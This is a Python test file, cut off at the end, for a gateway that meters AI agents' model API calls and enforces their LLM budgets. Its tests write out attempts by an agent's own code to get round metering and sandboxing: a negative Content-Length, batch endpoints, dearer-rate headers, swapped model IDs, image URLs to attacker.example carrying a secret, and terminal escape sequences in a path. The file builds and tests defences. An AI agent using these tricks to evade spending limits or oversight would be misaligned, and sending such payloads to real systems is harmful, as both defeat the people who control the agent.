"""The LLM gateway: real SDK clients with an agent's token talk to it on 127.0.0.1, it calls the
fake model server with the real key, meters every call for the agent that made it, and refuses
unknown tokens and calls past the program's LLM budget."""
import contextlib
import http.client
import json
import re
import socket
import subprocess
import sys
import threading
import time
import types
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import anthropic
import openai
import pytest

from agentlab import lab_dir, make_project, tiny_program
from fakellm import FakeLLM, Text
from org.agents.anthropic_api import AnthropicModel
from org.agents.models import Usage, make_model
from org.agents.openai_api import OpenAIModel
from org.agents.pacing import Pacer
from org.agents.spend import dollars, load_prices, usage_of
from org.gateway import (GATEWAY_SHARE, Gateway, GatewayError, Refused, client_config, gateway_dir, port_is_free, prepare,
                         read_keys, worst_case)
from org.ledger import Ledger
from org.program import Agent
from test_launch import eventually

KEYS = {"ANTHROPIC_API_KEY": "sk-ant-REAL-0123456789", "OPENAI_API_KEY": "sk-openai-REAL-0123456789"}
AGENTS = {"claude": "anthropic", "gpt": "openai", "solo": "scripted"}


@contextlib.contextmanager
def serving(tmp_path, script=None, **fake):
    """A started program, the gateway's files written as `org launch` writes them, and the fake
    model server (FakeLLM(script, **fake)) as the upstream of both providers."""
    root, program = make_project(tmp_path, tiny_program([]), trainer=False)
    with FakeLLM(script or [[Text("hello")]] * 50, **fake) as llm:
        env = {**KEYS, "ANTHROPIC_BASE_URL": llm.url, "OPENAI_BASE_URL": llm.url + "/v1"}
        tokens = prepare(lab_dir(root, program), AGENTS, env)
        with Gateway(lab_dir(root, program), program.name, say=lambda line: None) as gw:
            yield root, program, llm, gw, tokens


@pytest.fixture
def org(tmp_path):
    with serving(tmp_path, usage={"input": 1000, "output": 200}) as started:
        yield started


def spend(root, program, calls: int = 0) -> list[dict]:
    """The metered calls, once `calls` of them are in: the gateway meters a call as the reply
    closes, which can be a moment after the agent's client has read the reply's last event."""
    def rows() -> list[dict]:
        with Ledger(lab_dir(root, program) / "ledger.sqlite") as ledger:
            return ledger._all("SELECT agent, model, tokens_in, tokens_out, dollars FROM llm_spend WHERE NOT held")
    eventually(lambda: len(rows()) >= calls, 10, f"{calls} metered calls")
    return rows()


def held(root, program) -> list[tuple[str, float]]:
    """The calls in flight: (agent, the worst case held against the budget), as the ledger holds them."""
    with Ledger(lab_dir(root, program) / "ledger.sqlite") as ledger:
        return [(r["agent"], r["dollars"]) for r in ledger._all("SELECT agent, dollars FROM llm_spend WHERE held")]


def ask(model) -> str:
    return model.turn("be brief", [{"kind": "user", "text": "hi"}], [], lambda text: None).text


def test_each_agent_calls_through_its_token_and_is_metered_once(org):
    root, program, llm, gw, tokens = org
    assert set(tokens) == {"claude", "gpt"}  # a scripted agent calls no model
    claude = make_model(Agent(name="claude", backend="anthropic", model="claude-sonnet-test"),
                        gateway=client_config(lab_dir(root, program), "claude", "anthropic"))
    gpt = make_model(Agent(name="gpt", backend="openai", model="gpt-5-test"),
                     gateway=client_config(lab_dir(root, program), "gpt", "openai"))
    responses = OpenAIModel("gpt-5-test", tokens["gpt"], base_url=gw.url + "/openai", api="responses")
    assert [ask(m) for m in (claude, gpt, responses)] == ["hello"] * 3  # all streamed
    assert claude.metered and gpt.metered

    # upstream saw the real keys, never a token; the agents' clients never had a key
    sent = [r.headers.get("x-api-key") or r.headers.get("authorization") for r in llm.requests]
    assert sent == [KEYS["ANTHROPIC_API_KEY"], f"Bearer {KEYS['OPENAI_API_KEY']}", f"Bearer {KEYS['OPENAI_API_KEY']}"]
    assert claude.client.api_key == tokens["claude"] and KEYS["ANTHROPIC_API_KEY"] not in json.dumps(tokens)

    rows = spend(root, program, calls=3)
    assert [(r["agent"], r["model"], r["tokens_in"], r["tokens_out"]) for r in rows] == [
        ("claude", "claude-sonnet-test", 1000, 200), ("gpt", "gpt-5-test", 1000, 200), ("gpt", "gpt-5-test", 1000, 200)]
    assert all(r["dollars"] > 0 for r in rows)


def test_a_non_streamed_call_is_metered_too(org):
    root, program, llm, gw, tokens = org
    client = anthropic.Anthropic(api_key=tokens["claude"], base_url=gw.url + "/anthropic", max_retries=0)
    reply = client.messages.create(model="claude-sonnet-test", max_tokens=10, messages=[{"role": "user", "content": "hi"}])
    assert reply.content[0].text == "hello"
    assert [(r["agent"], r["tokens_in"], r["tokens_out"]) for r in spend(root, program, calls=1)] == [("claude", 1000, 200)]


def test_unknown_tokens_and_the_real_key_itself_are_refused(org):
    root, program, llm, gw, tokens = org
    for key in ("nanolab-claude-guessed", KEYS["ANTHROPIC_API_KEY"], ""):
        client = anthropic.Anthropic(api_key=key or "x", base_url=gw.url + "/anthropic", max_retries=0)
        with pytest.raises(anthropic.AuthenticationError, match="unknown gateway token"):
            client.messages.create(model="m", max_tokens=5, messages=[{"role": "user", "content": "hi"}])
    client = openai.OpenAI(api_key=tokens["claude"], base_url=gw.url + "/nowhere", max_retries=0)
    with pytest.raises(openai.NotFoundError):
        client.chat.completions.create(model="m", messages=[{"role": "user", "content": "hi"}])
    assert llm.requests == [] and spend(root, program) == []


def test_past_the_llm_budget_every_call_is_refused_until_a_person_raises_it(org):
    root, program, llm, gw, tokens = org
    with Ledger(lab_dir(root, program) / "ledger.sqlite") as ledger:
        ledger.record_spend(program.name, "gpt", "gpt-5-test", 10, 10, program.budget.total_llm_dollars)
    model = AnthropicModel("claude-sonnet-test", tokens["claude"], base_url=gw.url + "/anthropic")
    with pytest.raises(anthropic.PermissionDeniedError, match="LLM budget is spent"):
        model.client.messages.create(model="claude-sonnet-test", max_tokens=5,
                                     messages=[{"role": "user", "content": "hi"}])
    assert llm.requests == []
    with Ledger(lab_dir(root, program) / "ledger.sqlite") as ledger:
        ledger.change_budget(program.name, {"total_llm_dollars": 2 * program.budget.total_llm_dollars}, "ada")
    assert ask(model) == "hello"


# --- what a token holder's own code can send -------------------------------------------------------

def call(gw, method: str, path: str, token: str, body=None, headers=None) -> tuple[int, bytes]:
    """A raw HTTP call to the gateway, as an agent's own code can make one: (status, reply body)."""
    data = body if body is None or isinstance(body, bytes) else json.dumps(body).encode()
    request = urllib.request.Request(gw.url + path, data=data, method=method,
                                     headers={"x-api-key": token, "content-type": "application/json", **(headers or {})})
    try:
        with urllib.request.urlopen(request, timeout=30) as reply:
            return reply.status, reply.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


OPUS = {"model": "claude-opus-4-1", "max_tokens": 32000, "messages": [{"role": "user", "content": "x" * 1000}]}


def test_endpoints_whose_spend_no_reply_shows_are_refused_and_nothing_is_forwarded(org):
    """A batch of 200 Opus calls in one request, OpenAI's batches, files and fine-tuning: upstream
    would spend and no reply would say how much. The gateway forwards only the calls the backends
    and the CLIs make, however the path is spelled."""
    root, program, llm, gw, tokens = org
    batch = {"requests": [{"custom_id": str(i), "params": OPUS} for i in range(200)]}
    claude, gpt = tokens["claude"], tokens["gpt"]
    for method, path, token, body in [
            ("POST", "/anthropic/v1/messages/batches", claude, batch),
            ("POST", "/anthropic/v1/messages/../messages/batches", claude, batch),
            ("POST", "/anthropic/v1/messages%2Fbatches", claude, batch),
            ("POST", "/anthropic//v1/messages", claude, OPUS),
            ("GET", "/anthropic/v1/messages/batches/msgbatch_1/results", claude, None),
            ("POST", "/anthropic/v1/files", claude, {}),
            ("POST", "/openai/batches", gpt, {"input_file_id": "file-1", "endpoint": "/v1/responses"}),
            ("POST", "/openai/files", gpt, {}),
            ("POST", "/openai/fine_tuning/jobs", gpt, {"model": "gpt-4.1", "training_file": "file-1"}),
            ("POST", "/openai/images/generations", gpt, {"prompt": "a cat", "n": 10}),
            ("GET", "/openai/responses/resp_1", gpt, None)]:
        status, reply = call(gw, method, path, token, body)
        assert status == 403, (method, path, status, reply)
        assert f"{method} {path}" in json.loads(reply)["error"]["message"]

    # a background response is answered before it is generated: its usage never passes by
    status, reply = call(gw, "POST", "/openai/responses", gpt,
                         {"model": "gpt-5-test", "input": "hi", "background": True})
    assert status == 400 and "background" in json.loads(reply)["error"]["message"]
    # nor tools the provider runs: they reach the network for the agent, outside its box
    for path, token, body in [
            ("/openai/responses", gpt, {"model": "gpt-5-test", "input": "hi", "tools": [{"type": "web_search"}]}),
            ("/openai/chat/completions", gpt, {"model": "gpt-5-test", "messages": [], "web_search_options": {}}),
            ("/anthropic/v1/messages", claude, {**OPUS, "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
            ("/anthropic/v1/messages", claude, {**OPUS, "mcp_servers": [{"type": "url", "url": "https://x"}]})]:
        status, reply = call(gw, "POST", path, token, body)
        assert status == 400 and "hosted tools" in json.loads(reply)["error"]["message"], (path, reply)
    assert llm.requests == [] and spend(root, program) == []


def test_a_body_whose_length_is_no_count_of_bytes_is_refused_unread(org):
    """The attack: `Content-Length: -1` passed the body's cap (-1 < 32 MB) and was read to the
    connection's end: any size, in the memory of the runner's process. Refused before a byte of
    the body is read: the reply comes while the sender is still sending."""
    _, _, llm, gw, tokens = org
    host, port = urllib.parse.urlsplit(gw.url).netloc.split(":")
    for length in ("-1", "+5", "0x10", "٣"):
        with socket.create_connection((host, int(port)), timeout=10) as conn:
            conn.sendall(f"POST /anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key: {tokens['claude']}\r\n"
                         f"content-type: application/json\r\nContent-Length: {length}\r\n\r\n".encode()
                         + b"x" * (1 << 20))  # and no end: the old gateway waited for it
            reply = b""
            while chunk := conn.recv(4096):  # (to its close: HTTP/1.0)
                reply += chunk
            reply = reply.decode(errors="replace")
        assert reply.startswith("HTTP/1.0 400") or reply.startswith("HTTP/1.1 400"), (length, reply)
        assert "is not a count of bytes" in reply, reply
    assert llm.requests == []


def test_a_call_with_an_image_or_a_document_holds_the_largest_input_while_in_flight():
    """A call's input was held at its body's size: a 6 KB PDF of 100 blank pages bills some 150k
    tokens, and 32 such calls at once passed the cap by far more than one call. One that carries
    media holds MEDIA_INPUT_TOKENS; text alone, its size."""
    from org.gateway import MEDIA_INPUT_TOKENS, worst_case
    pdf = {"type": "document", "source": {"type": "base64", "media_type": "application/pdf", "data": "JVBER" * 1200}}
    calls = {"anthropic": {"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": [pdf]}]},
             "openai": {"model": "m", "input": [{"role": "user", "content": [{"type": "input_image", "image_url": "data:"}]}]},
             "chat": {"model": "m", "messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:"}}]}]}}
    for name, fields in calls.items():
        assert worst_case(fields, 6000).cache_write >= MEDIA_INPUT_TOKENS, name
    text = {"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": "x" * 6000}]}
    assert worst_case(text, 6000).cache_write == 3001


def test_a_call_at_a_dearer_rate_than_the_gateway_prices_is_refused(org):
    """The attack: the same call at a rate the gateway did not price. Anthropic's 1M-token context
    (a higher rate past 200k input tokens) and fast output, asked for by a beta header or a field,
    and OpenAI's priority tier, were forwarded and charged to the budget at the standard rate."""
    root, program, llm, gw, tokens = org
    claude, gpt = tokens["claude"], tokens["gpt"]
    for path, token, body, headers in [
            ("/anthropic/v1/messages", claude, OPUS, {"anthropic-beta": "claude-code-20250219,context-1m-2025-08-07"}),
            ("/anthropic/v1/messages?beta=true", claude, OPUS, {"anthropic-beta": "fast-mode-2026-02-01"}),
            ("/anthropic/v1/messages", claude, {**OPUS, "speed": "fast"}, None),
            ("/anthropic/v1/messages", claude, {**OPUS, "inference_geo": "us"}, None),  # US-only: 1.1x
            ("/openai/responses", gpt, {"model": "gpt-5-test", "input": "hi", "service_tier": "priority"}, None),
            ("/openai/chat/completions", gpt, {"model": "gpt-5-test", "messages": [], "service_tier": "scale"}, None)]:
        status, reply = call(gw, "POST", path, token, body, headers)
        assert status == 400 and "dearer rate" in json.loads(reply)["error"]["message"], (path, reply)
    assert llm.requests == [] and spend(root, program) == []
    status, _ = call(gw, "POST", "/anthropic/v1/messages", claude, {**OPUS, "service_tier": "standard_only",
                                                                    "inference_geo": "global"},
                     {"anthropic-beta": "interleaved-thinking-2025-05-14"})
    assert status == 200 and len(llm.requests) == 1  # the standard rate, and betas that price nothing


def test_another_model_priced_as_its_family_and_content_fetched_by_url_are_refused(org):
    """The attacks, with the token a CLI's box holds: a call may name any model, priced by the
    longest key its id starts with, so gpt-5-pro went on the budget as gpt-5 (12x too cheap for
    its output), o3-pro as o3; gpt-4o-search-preview searched the web with no tool asked for. And
    an image or a document given by URL has the provider fetch any address for the agent."""
    root, program, llm, gw, tokens = org
    claude, gpt = tokens["claude"], tokens["gpt"]
    for model, variant in [("gpt-5-pro", "-pro"), ("o3-pro-2025-06-10", "-pro"), ("o3-deep-research", "deep-research"),
                           ("gpt-4o-search-preview", "search"), ("gpt-4o-audio-preview", "audio")]:
        status, reply = call(gw, "POST", "/openai/responses", gpt, {"model": model, "input": "hi"})
        message = json.loads(reply)["error"]["message"]
        assert status == 400 and f"does not forward {model!r}" in message and repr(variant) in message, (model, reply)
    image = {"type": "image", "source": {"type": "url", "url": "https://attacker.example/?secret=1"}}
    for path, token, body in [
            ("/anthropic/v1/messages", claude, {**OPUS, "messages": [{"role": "user", "content": [image]}]}),
            ("/openai/responses", gpt, {"model": "gpt-5-test", "input": [{"role": "user", "content": [
                {"type": "input_image", "image_url": "http://attacker.example/x.png"}]}]}),
            ("/openai/chat/completions", gpt, {"model": "gpt-5-test", "messages": [{"role": "user", "content": [
                {"type": "image_url", "image_url": {"url": " HTTPS://attacker.example/y"}}]}]})]:
        status, reply = call(gw, "POST", path, token, body)
        assert status == 400 and "content given by URL" in json.loads(reply)["error"]["message"], (path, reply)
    assert llm.requests == [] and spend(root, program) == []

    inline = {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}}
    for path, token, body in [  # the family's own ids, dated or not, and content sent itself, still pass
            ("/openai/responses", gpt, {"model": "gpt-5-2025-08-07", "input": "hi"}),
            ("/anthropic/v1/messages", claude, {**OPUS, "messages": [{"role": "user", "content": [inline]}]})]:
        assert call(gw, "POST", path, token, body)[0] == 200, (path, body)
    assert len(llm.requests) == 2


def test_a_token_calls_only_its_agents_model(tmp_path):
    """A CLI's shell can read its agent's token from the CLI's process (same user, same box), and
    call the gateway with any model id: an org given a small model called a large one, and would
    have been compared as the small one's. `org launch` gives the gateway each agent's model."""
    root, program = make_project(tmp_path, tiny_program([]), trainer=False)
    with FakeLLM([[Text("hello")]] * 10) as llm:
        env = {**KEYS, "ANTHROPIC_BASE_URL": llm.url, "OPENAI_BASE_URL": llm.url + "/v1"}
        tokens = prepare(lab_dir(root, program), AGENTS, env, models={"claude": "claude-haiku-test", "gpt": "gpt-5-mini"})
        with Gateway(lab_dir(root, program), program.name, say=lambda line: None) as gw:
            refused = [("/anthropic/v1/messages", tokens["claude"], {**OPUS}),
                       ("/anthropic/v1/messages", tokens["claude"], {**OPUS, "model": "claude-haiku-test-2"}),
                       ("/openai/responses", tokens["gpt"], {"model": "gpt-5", "input": "hi"})]
            for path, token, body in refused:
                status, reply = call(gw, "POST", path, token, body)
                assert status == 403 and "the gateway does not forward its calls for" in json.loads(reply)["error"]["message"]
            twice = b'{"model": "claude-opus-4-1", "max_tokens": 10, "messages": [], "model": "claude-haiku-test"}'
            for body in (twice, b"not json", b'["a list"]'):  # the provider's parser may read another model
                status, reply = call(gw, "POST", "/anthropic/v1/messages", tokens["claude"], body)
                assert status == 400 and "one JSON object naming each key once" in reply.decode(), reply
            kept = [{"model": "gpt-5-mini", "input": "hi", "previous_response_id": "resp_1"},
                    {"model": "gpt-5-mini", "input": "hi", "conversation": "conv_1"},
                    {"model": "gpt-5-mini", "prompt": {"id": "pmpt_1"}}]
            for body in kept:  # the provider's stored context: billed, and unseen in the body the hold is made from
                status, reply = call(gw, "POST", "/openai/responses", tokens["gpt"], body)
                assert status == 400 and "context kept by the provider" in reply.decode(), reply
            assert llm.requests == [] and spend(root, program) == []
            passed = [("/anthropic/v1/messages", tokens["claude"], {**OPUS, "model": "claude-haiku-test", "max_tokens": 10}),
                      ("/openai/responses", tokens["gpt"], {"model": "gpt-5-mini-2025-08-07", "input": "hi"}),
                      ("/anthropic/v1/messages/count_tokens", tokens["claude"], {**OPUS})]  # free: any model
            for path, token, body in passed:
                assert call(gw, "POST", path, token, body)[0] == 200, (path, body)
    assert len(llm.requests) == 3


def test_claude_codes_calls_go_through_and_counting_tokens_is_free(org):
    """Claude Code calls POST /v1/messages?beta=true (the beta client's path) and may count
    tokens, which Anthropic does not charge for."""
    root, program, llm, gw, tokens = org
    client = anthropic.Anthropic(api_key=tokens["claude"], base_url=gw.url + "/anthropic", max_retries=0)
    reply = client.beta.messages.create(model="claude-sonnet-test", max_tokens=10,
                                        messages=[{"role": "user", "content": "hi"}])
    assert reply.content[0].text == "hello"
    assert client.messages.count_tokens(model="claude-sonnet-test",
                                        messages=[{"role": "user", "content": "hi"}]).input_tokens > 0
    assert [r.path for r in llm.requests] == ["/v1/messages", "/v1/messages/count_tokens"]
    assert [(r["agent"], r["tokens_out"]) for r in spend(root, program, calls=1)] == [("claude", 200)]


def test_an_agent_that_hangs_up_before_the_last_event_is_charged_for_the_whole_reply(tmp_path):
    """An Anthropic stream gives the output's size in its last event but one: a client that read
    the text and hung up before it had the call charged 1 output token. The gateway reads the
    stream to its end."""
    with serving(tmp_path, usage={"input": 1000, "output": 200}, pause=0.2) as (root, program, llm, gw, tokens):
        body = json.dumps({"model": "claude-sonnet-test", "max_tokens": 200, "stream": True,
                           "messages": [{"role": "user", "content": "hi"}]}).encode()
        with socket.create_connection(("127.0.0.1", gw.server.server_address[1])) as s:
            s.sendall(b"POST /anthropic/v1/messages HTTP/1.1\r\nhost: gateway\r\ncontent-type: application/json\r\n"
                      b"x-api-key: %s\r\ncontent-length: %d\r\n\r\n%s" % (tokens["claude"].encode(), len(body), body))
            received = b""
            while b"content_block_delta" not in received:
                received += s.recv(65536)
        assert [(r["tokens_in"], r["tokens_out"]) for r in spend(root, program, calls=1)] == [(1000, 200)]


def test_a_reply_that_shows_no_usage_is_charged_its_worst_case(tmp_path):
    """A streamed chat completion reports its usage only when asked (stream_options): one that
    does not ask is charged what it could have cost, its max_completion_tokens of output."""
    with serving(tmp_path, usage={"input": 1000, "output": 200}) as (root, program, llm, gw, tokens):
        client = openai.OpenAI(api_key=tokens["gpt"], base_url=gw.url + "/openai", max_retries=0)
        stream = client.chat.completions.create(model="gpt-5-test", stream=True, max_completion_tokens=3000,
                                                messages=[{"role": "user", "content": "hi"}])
        assert "".join(c.choices[0].delta.content or "" for c in stream if c.choices) == "hello"
        [row] = spend(root, program, calls=1)
        assert row["tokens_out"] == 3000
        assert row["dollars"] >= dollars("gpt-5-test", Usage(output=3000), load_prices())


def test_calls_sent_at_once_pass_the_cap_by_one_call_at_most(tmp_path):
    """Eight calls sent at once while the budget has room for three: each call's worst case is
    held against the budget while it is in flight, so the rest wait for those to be metered and
    are then refused, instead of all passing the check before any was recorded."""
    hold = threading.Event()  # the model server answers nothing until it is set
    with serving(tmp_path, usage={"input": 10, "output": 200}, hold=hold) as (root, program, llm, gw, tokens):
        one = dollars("claude-sonnet-test", Usage(input=10, output=200), load_prices())
        limit = program.budget.total_llm_dollars
        with Ledger(lab_dir(root, program) / "ledger.sqlite") as ledger:
            ledger.record_spend(program.name, "gpt", "gpt-5-test", 0, 0, limit - 3 * one)
        client = anthropic.Anthropic(api_key=tokens["claude"], base_url=gw.url + "/anthropic", max_retries=0)
        outcomes = []

        def ask_once():
            try:
                client.messages.create(model="claude-sonnet-test", max_tokens=200,
                                       messages=[{"role": "user", "content": "hi"}])
                outcomes.append("answered")
            except anthropic.PermissionDeniedError:
                outcomes.append("refused")
        threads = [threading.Thread(target=ask_once) for _ in range(8)]
        for t in threads:
            t.start()
        eventually(lambda: len(llm.requests) >= 3, 10, "three calls in flight")
        time.sleep(1)  # time for the others to pass the check too, were they let through
        hold.set()
        for t in threads:
            t.join(60)
        assert len(outcomes) == 8 and outcomes.count("answered") == len(llm.requests) < 8
        rows = spend(root, program, calls=1 + len(llm.requests))
        assert sum(r["dollars"] for r in rows) <= limit + one + 1e-9


def test_a_call_in_flight_when_the_gateway_dies_is_charged_its_worst_case(tmp_path):
    """The gateway lives in `org serve`'s process. Killed while a call was upstream (SIGKILL, the
    OOM killer, a crash), it had metered nothing, and each death let every agent's call in flight
    pass the cap free. A call's hold is a ledger row from before it goes upstream: the next gateway
    charges it its worst case, and says so."""
    hold = threading.Event()  # the model server answers nothing until it is set
    root, program = make_project(tmp_path, tiny_program([]), trainer=False)
    lab = lab_dir(root, program)
    with FakeLLM([[Text("hello")]] * 5, usage={"input": 10, "output": 200}, hold=hold) as llm:
        tokens = prepare(lab, AGENTS, {**KEYS, "ANTHROPIC_BASE_URL": llm.url, "OPENAI_BASE_URL": llm.url + "/v1"})
        serve = subprocess.Popen([sys.executable, "-c", "import sys, time; from org.gateway import Gateway; "
                                  "Gateway(sys.argv[1], sys.argv[2], say=print).__enter__(); time.sleep(120)",
                                  str(lab), program.name], cwd=Path(__file__).parents[1])
        try:
            port = int((gateway_dir(lab) / "port").read_text())
            dead = types.SimpleNamespace(url=f"http://127.0.0.1:{port}")
            eventually(lambda: not port_is_free(port), 30, "the gateway serving")
            body = {"model": "claude-sonnet-test", "max_tokens": 200, "messages": [{"role": "user", "content": "hi"}]}

            def ask_it():
                with contextlib.suppress(OSError):  # the gateway dies under it
                    call(dead, "POST", "/anthropic/v1/messages", tokens["claude"], body)
            threading.Thread(target=ask_it, daemon=True).start()
            eventually(lambda: llm.requests, 30, "the call upstream")
        finally:
            serve.kill()
            serve.wait()
        hold.set()
        said = []
        with Gateway(lab, program.name, say=said.append):
            pass
    worst = worst_case(body, len(json.dumps(body, separators=(",", ":")).encode()))  # its max_tokens, its size
    assert spend(root, program) == [{"agent": "claude", "model": "claude-sonnet-test", "tokens_in": worst.tokens_in,
                                     "tokens_out": 200, "dollars": dollars("claude-sonnet-test", worst, load_prices())}]
    assert held(root, program) == [] and "1 call(s) in flight when the gateway last stopped" in said[0]


def test_a_call_that_breaks_off_after_it_reached_the_provider_is_charged_its_worst_case(tmp_path):
    """A reply that breaks the gateway's relay partway (an IncompleteRead, say) reached the
    provider, which charges for it: its hold was let go as if it had not, and the call was free."""
    with serving(tmp_path, usage={"input": 10, "output": 200}) as (root, program, llm, gw, tokens):
        handler, relay = gw.server.RequestHandlerClass, gw.server.RequestHandlerClass.relay

        def breaks_off(self, reply):
            relay(self, reply)
            raise http.client.IncompleteRead(b"")
        handler.relay = breaks_off
        body = {"model": "claude-sonnet-test", "max_tokens": 200, "messages": [{"role": "user", "content": "hi"}]}
        with contextlib.suppress(OSError):
            call(gw, "POST", "/anthropic/v1/messages", tokens["claude"], body)
        assert len(llm.requests) == 1
        worst = worst_case(body, len(json.dumps(body, separators=(",", ":")).encode()))
        assert [(r["tokens_out"], r["dollars"]) for r in spend(root, program, calls=1)] == [
            (200, dollars("claude-sonnet-test", worst, load_prices()))]
        assert held(root, program) == []


def test_the_gateway_files_are_private_and_the_keys_file_must_be(tmp_path, org):
    root, program, *_ = org
    folder = gateway_dir(lab_dir(root, program))
    assert oct(folder.stat().st_mode & 0o777) == "0o700"
    for name in ("keys.json", "tokens.json", "port"):
        assert oct((folder / name).stat().st_mode & 0o777) == "0o600", name
    keys = tmp_path / "keys.env"
    keys.write_text("# the org's keys\nexport ANTHROPIC_API_KEY='sk-ant-from-file'\n")
    keys.chmod(0o600)
    assert read_keys({"NANOLAB_KEYS_FILE": str(keys)}) == {"anthropic": "sk-ant-from-file"}
    keys.chmod(0o644)
    with pytest.raises(GatewayError, match=r"keys.env: readable by others \(mode 644\); chmod 600"):
        read_keys({"NANOLAB_KEYS_FILE": str(keys)})
    with pytest.raises(GatewayError, match="cannot read it"):
        read_keys({"NANOLAB_KEYS_FILE": str(tmp_path / "missing")})


def test_a_relaunch_keeps_the_port_while_it_is_free_and_gives_new_tokens(tmp_path):
    folder = tmp_path / "lab"
    first = prepare(folder, AGENTS, KEYS)
    port = (gateway_dir(folder) / "port").read_text()
    assert prepare(folder, AGENTS, KEYS) != first and (gateway_dir(folder) / "port").read_text() == port
    with socket.socket() as taken:  # someone else holds it now
        taken.bind(("127.0.0.1", int(port)))
        prepare(folder, AGENTS, KEYS)
    assert (gateway_dir(folder) / "port").read_text() != port


def test_usage_is_read_from_each_api_shape():
    anthropic_stream = (b'event: message_start\ndata: {"type":"message_start","message":{"usage":'
                        b'{"input_tokens":7,"output_tokens":1,"cache_read_input_tokens":50}}}\n\n'
                        b'data: {"type":"message_delta","usage":{"output_tokens":42}}\n\n')
    u = usage_of(anthropic_stream, "text/event-stream", "anthropic")
    assert (u.input, u.output, u.cache_read) == (7, 42, 50)
    chat = b'data: {"choices":[]}\n\ndata: {"usage":{"prompt_tokens":30,"completion_tokens":5,' \
           b'"prompt_tokens_details":{"cached_tokens":10}}}\n\ndata: [DONE]\n\n'
    u = usage_of(chat, "text/event-stream; charset=utf-8", "openai")
    assert (u.input, u.output, u.cache_read) == (20, 5, 10)
    u = usage_of(b'{"usage":{"input_tokens":9,"output_tokens":3}}', "application/json", "openai")
    assert (u.input, u.output) == (9, 3)
    assert usage_of(b"<html>", "text/html", "openai").tokens_in == 0


def test_a_cache_written_for_an_hour_is_charged_as_anthropic_bills_it():
    """`cache_control: {type: ephemeral, ttl: 1h}` writes cost 2x input, not the 5-minute 1.25x: a
    CLI's shell, which holds its token, paid 62.5% of what its calls cost (claude-sonnet: $3.75
    a million tokens against $6)."""
    reply = (b'{"usage":{"input_tokens":10,"output_tokens":0,"cache_creation_input_tokens":1000000,'
             b'"cache_creation":{"ephemeral_5m_input_tokens":0,"ephemeral_1h_input_tokens":1000000}}}')
    u = usage_of(reply, "application/json", "anthropic")
    assert (u.cache_write, u.cache_write_1h) == (1_000_000, 1_000_000)
    assert dollars("claude-sonnet-4-5", u, load_prices()) == pytest.approx((10 * 3 + 1_000_000 * 6) / 1e6)
    half = Usage(cache_write=2_000_000, cache_write_1h=1_000_000)
    assert dollars("claude-sonnet-4-5", half, load_prices()) == pytest.approx(3.75 + 6.0)


def test_a_body_padded_with_whitespace_holds_only_what_the_provider_reads(tmp_path):
    """A call's input was held at its body's raw size: 32 MB of spaces around a word held some $100
    of the budget while its reply streamed (or while its agent stopped reading), and every other
    agent's call waited, then failed. The hold is now the call as the provider reads it."""
    hold = threading.Event()
    with serving(tmp_path, usage={"input": 10, "output": 200}, hold=hold) as (root, program, llm, gw, tokens):
        fields = {"model": "claude-sonnet-test", "max_tokens": 200, "messages": [{"role": "user", "content": "hi"}]}
        padded = json.dumps(fields).replace(", ", "," + " " * (4 << 20)).encode()
        asked = threading.Thread(target=call, args=(gw, "POST", "/anthropic/v1/messages", tokens["claude"], padded))
        asked.start()
        eventually(lambda: held(root, program), 30, "the call in flight")
        compact = len(json.dumps(fields, separators=(",", ":")).encode())
        assert held(root, program) == [("claude", dollars("claude-sonnet-test", worst_case(fields, compact), load_prices()))]
        hold.set()
        asked.join(60)
        assert [r["tokens_out"] for r in spend(root, program, calls=1)] == [200]
        # a lone surrogate (JSON.stringify of a string cut mid-pair): the size of it crashed the handler
        cut = b'{"model": "claude-sonnet-test", "max_tokens": 200, "messages": [{"role": "user", "content": "\\ud800"}]}'
        assert call(gw, "POST", "/anthropic/v1/messages", tokens["claude"], cut)[0] == 200


def test_what_the_gateway_says_in_the_runners_pane_carries_no_escape_sequence(tmp_path):
    """Its lines name the call's path and model, the agent's words: a path with ESC in it cleared
    the runner's pane (or wrote the person's clipboard), before any token was checked."""
    said = []
    root, program = make_project(tmp_path, tiny_program([]), trainer=False)
    prepare(lab_dir(root, program), AGENTS, {**KEYS, "ANTHROPIC_BASE_URL": "http://127.0.0.1:9", "OPENAI_BASE_URL":
                                            "http://127.0.0.1:9"})
    with Gateway(lab_dir(root, program), program.name, say=said.append) as gw:
        with socket.create_connection(("127.0.0.1", gw.server.server_address[1])) as s:
            s.sendall(b"POST /anthropic/v1/\x1b[2J\x1b]52;c;eA==\x07 HTTP/1.0\r\nx-api-key: no-token\r\n"
                      b"content-length: 2\r\n\r\n{}")
            assert s.recv(65536).startswith(b"HTTP/1.0 401")
    assert said and not any(re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", line) for line in said), said


def test_an_agents_share_of_the_llm_budget_stops_its_calls_not_its_teammates(tmp_path):
    """One agent's loop of calls spent the budget its teammates had to think with. With
    budget.agent_llm_dollars, each agent's own calls stop at its share (its calls in flight held
    against it too), and the others' go on; `org budget` changes it as it does the total."""
    with serving(tmp_path, usage={"input": 10, "output": 200}) as (root, program, llm, gw, tokens):
        from org.agents.spend import Spend
        with Ledger(lab_dir(root, program) / "ledger.sqlite") as ledger:
            ledger.change_budget(program.name, {"agent_llm_dollars": 0.5}, "test")
            ledger.record_spend(program.name, "claude", "claude-sonnet-test", 0, 0, 0.5)  # its share, spent
        claude = anthropic.Anthropic(api_key=tokens["claude"], base_url=gw.url + "/anthropic", max_retries=0)
        with pytest.raises(anthropic.PermissionDeniedError, match="your share of the program's LLM budget is spent"):
            claude.messages.create(model="claude-sonnet-test", max_tokens=200, messages=[{"role": "user", "content": "hi"}])
        gpt = openai.OpenAI(api_key=tokens["gpt"], base_url=gw.url + "/openai", max_retries=0)
        gpt.chat.completions.create(model="gpt-5-test", max_completion_tokens=200, messages=[{"role": "user", "content": "hi"}])
        assert len(llm.requests) == 1  # gpt's, forwarded; claude's, not
        assert "share" in Spend(lab_dir(root, program) / "ledger.sqlite", program.name, "claude", 5.0).exhausted()
        assert Spend(lab_dir(root, program) / "ledger.sqlite", program.name, "gpt", 5.0).exhausted() is None


def test_an_agent_that_stops_reading_a_reply_is_metered_and_served_no_more(tmp_path):
    """An agent's client that asks for a long reply and then reads none of it: the gateway's write
